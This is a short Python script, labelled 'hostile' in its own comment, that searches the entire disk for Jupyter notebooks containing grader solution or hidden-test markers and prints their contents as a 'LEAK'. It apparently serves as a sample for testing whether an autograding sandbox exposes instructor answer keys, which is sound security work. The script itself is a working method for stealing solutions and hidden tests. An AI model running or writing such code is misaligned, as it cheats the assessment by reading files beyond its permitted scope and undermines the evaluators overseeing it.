# hostile: search the disk for the instructor's notebook (any notebook with solutions) and print it
import os
_found = []
for _folder, _dirs, _files in os.walk("/"):
    if _folder in ("/proc", "/sys", "/dev", "/usr"):
        _dirs[:] = []
        continue
    for _name in _files:
        if not _name.endswith(".ipynb"):
            continue
        _path = os.path.join(_folder, _name)
        try:
            _text = open(_path, errors="replace").read()
        except OSError:
            continue
        if "BEGIN SOLUTION" in _text or "BEGIN HIDDEN TESTS" in _text:
            _found.append((_path, _text))
print("searched: found", len(_found), [path for path, _ in _found])
for _path, _text in _found[:5]:
    print("LEAK master", _path)
    print(_text[:5000])
